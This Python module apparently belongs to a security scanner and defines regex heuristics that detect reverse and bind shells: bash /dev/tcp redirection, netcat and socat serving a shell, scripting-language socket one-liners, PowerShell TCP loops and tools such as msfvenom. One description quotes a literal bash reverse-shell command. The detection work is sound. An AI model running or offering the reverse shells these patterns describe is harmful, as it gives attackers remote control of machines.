"""Reverse and bind shells: an interactive shell wired to a network socket.

`/dev/tcp` alone is dual-use (wait-for-port loops in container entrypoints use it), so it
is strong only when a shell's standard streams are redirected to it.
"""

from __future__ import annotations

from inspector.stage import Heuristic
from inspector.analyzers.heuristics.patterns import Family, PatternRule

DEV_TCP_SHELL = Heuristic(
    id="heur.reverse_shells.dev_tcp",
    title="Shell redirected to /dev/tcp",
    description="bash -i >& /dev/tcp/host/port 0>&1 and variants connect an interactive shell to a remote host.",
    score=600,
    attack=("T1059.004", "T1071"),
)
DEV_TCP = Heuristic(
    id="heur.reverse_shells.dev_tcp_socket",
    title="/dev/tcp socket",
    description="bash's /dev/tcp pseudo-device opens a TCP connection (dual-use: port checks).",
    score=40,
    attack=("T1095",),
)
NETCAT_EXEC = Heuristic(
    id="heur.reverse_shells.netcat_exec",
    title="netcat serving a shell",
    description="nc/ncat -e or -c with a shell, or a mkfifo pipe between sh and nc: a reverse or bind shell.",
    score=600,
    attack=("T1059.004", "T1095"),
)
SOCAT_EXEC = Heuristic(
    id="heur.reverse_shells.socat_exec",
    title="socat serving a shell",
    description="socat with exec:/system: bound to a TCP endpoint gives a remote shell.",
    score=550,
    attack=("T1059.004", "T1095"),
)
SCRIPT_ONE_LINER = Heuristic(
    id="heur.reverse_shells.interpreter_one_liner",
    title="Scripting-language reverse shell",
    description="python/perl/ruby/php/awk/lua code that opens a socket and hands it to a shell "
    "(dup2/pty.spawn/exec/proc_open).",
    score=600,
    attack=("T1059.006", "T1095"),
)
PS_TCP_SHELL = Heuristic(
    id="heur.reverse_shells.powershell_tcp",
    title="PowerShell TCP reverse shell",
    description="Net.Sockets.TCPClient/TcpListener with GetStream and Invoke-Expression in a read loop "
    "(Nishang/powercat style).",
    score=600,
    attack=("T1059.001", "T1095"),
)
PS_TCP_CLIENT = Heuristic(
    id="heur.reverse_shells.powershell_tcp_client",
    title="PowerShell raw TCP client",
    description="A raw TcpClient connection (dual-use: port probes).",
    score=30,
    attack=("T1095",),
)
TELNET_PIPE = Heuristic(
    id="heur.reverse_shells.telnet_pipe",
    title="telnet pipe shell",
    description="telnet host port | /bin/sh | telnet host port2.",
    score=500,
    attack=("T1059.004",),
)
POWERCAT = Heuristic(
    id="heur.reverse_shells.known_tools",
    title="Reverse shell tool",
    description="powercat, Invoke-PowerShellTcp, ConPtyShell, or msfvenom/meterpreter payload names.",
    score=600,
    attack=("T1059.001", "T1095"),
)

RULES = (
    PatternRule(
        DEV_TCP_SHELL,
        r"(?:sh|bash|zsh|dash|ksh)\b[^\n]{0,40}\s-i\b[^\n]{0,60}/dev/(?:tcp|udp)/|/dev/(?:tcp|udp)/[^\s/]{1,253}/\d{1,5}[^\n]{0,40}0\s*>\s*&\s*1"
        r"|exec\s+\d+\s*<>\s*/dev/(?:tcp|udp)/|>\s*&\s*/dev/(?:tcp|udp)/[^\n]{0,60}0\s*>\s*&\s*1|/dev/(?:tcp|udp)/[^\n]{0,80}<\s*&\s*\d[^\n]{0,40}>\s*&\s*\d"
        r"|\bsh\s+-i\s*[<>]\s*&?\s*/dev/(?:tcp|udp)/",
        keywords=("/dev/tcp", "/dev/udp"),
    ),
    PatternRule(DEV_TCP, r"/dev/(?:tcp|udp)/[^\s/]{1,253}/\d{1,5}", keywords=("/dev/tcp", "/dev/udp")),
    PatternRule(
        NETCAT_EXEC,
        r"\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)(?:\.exe)?\b[^\n|;]{0,120}\s-[a-z]*[ec]\s*[\"']?(?:/bin/|/usr/bin/)?(?:ba|z|da)?sh\b"
        r"|\b(?:nc|ncat|netcat)(?:\.exe)?\b[^\n|;]{0,120}\s-[a-z]*e\s*[\"']?cmd(?:\.exe)?\b|\b(?:nc|ncat|netcat)\b[^\n|;]{0,120}\s-[a-z]*e\s*[\"']?powershell"
        r"|mkfifo\s+\S+[^\n]{0,200}(?:\bnc\b|\bncat\b|\bnetcat\b|\btelnet\b|openssl\s+s_client)"
        r"|mknod\s+\S+\s+p\b[^\n]{0,200}(?:\bnc\b|\btelnet\b)"
        r"|(?:ba)?sh\s+-i\s+2>&1\s*\|\s*(?:nc|ncat)\b|\|\s*(?:/bin/)?(?:ba)?sh\s+-i\s+2>&1\s*\|\s*(?:nc|ncat|openssl\s+s_client)\b",
        keywords=("nc", "ncat", "netcat", "mkfifo", "mknod"),
    ),
    PatternRule(
        SOCAT_EXEC,
        r"\bsocat\b[^\n]{0,200}\b(?:exec|system):[^\n]{0,200}|\bsocat\b[^\n]{0,100}(?:tcp|tcp4|tcp6|openssl|tcp-listen|tcp4-listen)[:-]",
        keywords=("socat",),
        requires=(r"\bsocat\b[^\n]{0,300}(?:exec|system):",),
    ),
    PatternRule(
        SCRIPT_ONE_LINER,
        r"socket\.socket\([^\n]{0,400}(?:os\.dup2|pty\.spawn|subprocess\.(?:call|popen|run))"
        r"|(?:os\.dup2|pty\.spawn)[^\n]{0,400}socket\.socket|import\s+socket[^\n]{0,300}(?:dup2|pty\.spawn)"
        r"|\bperl\b[^\n]{0,60}-(?:e|MIO)\b[^\n]{0,400}(?:socket|IO::Socket::INET)[^\n]{0,400}(?:exec|system)\s*\(?[\"']?(?:/bin/)?(?:ba)?sh"
        r"|use\s+Socket;[^\n]{0,400}(?:open\(STDIN|exec\()"
        r"|TCPSocket\.(?:new|open)\([^\n]{0,300}(?:exec|spawn|IO\.popen|\.read)|\bruby\b[^\n]{0,40}-rsocket\b"
        r"|fsockopen\([^\n]{0,300}(?:exec|shell_exec|system|passthru|proc_open|popen)\s*\("
        r"|\bawk\b[^\n]{0,60}/inet/tcp/|\blua\b[^\n]{0,60}socket[^\n]{0,200}(?:io\.popen|os\.execute)"
        r"|net\.dial\([\"']tcp[\"'][^\n]{0,200}exec\.command",
        keywords=("socket", "fsockopen", "/inet/tcp", "net.dial"),
    ),
    PatternRule(
        # The same thing written as a script rather than a one-liner (python - <<EOF ... EOF).
        SCRIPT_ONE_LINER,
        r"socket\.socket\(",
        keywords=("socket.socket(",),
        requires=(r"\.connect\(\s*\(", r"os\.dup2\(|pty\.spawn\("),
    ),
    PatternRule(
        PS_TCP_SHELL,
        r"net\.sockets\.tcp(?:client|listener)|sockets\.tcpclient|\[system\.net\.sockets",
        keywords=("tcpclient", "tcplistener", "net.sockets"),
        requires=(r"getstream\s*\(", r"\biex\b|invoke-expression|\.\s*\(\s*\$|start-process|\bcmd(?:\.exe)?\b[^\n]{0,20}/c|invoke-command|scriptblock\]::create"),
    ),
    PatternRule(PS_TCP_CLIENT, r"net\.sockets\.tcpclient|sockets\.tcpclient", keywords=("tcpclient",)),
    PatternRule(
        TELNET_PIPE,
        r"\btelnet\s+\S+\s+\d{1,5}\s*\|\s*(?:/bin/)?(?:ba)?sh\b",
        keywords=("telnet",),
    ),
    PatternRule(
        POWERCAT,
        r"\bpowercat\b[^\n]{0,80}-(?:c|l|e|ep)\b|invoke-powershelltcp|invoke-conptyshell|\bconptyshell\b|\bmeterpreter\b|\bmsfvenom\b|windows/x64/shell_reverse_tcp|reverse_tcp\b",
        keywords=("powercat", "powershelltcp", "conptyshell", "meterpreter", "msfvenom", "reverse_tcp"),
    ),
)

FAMILY = Family(name="reverse_shells", rules=RULES)
HEURISTICS = FAMILY.heuristics
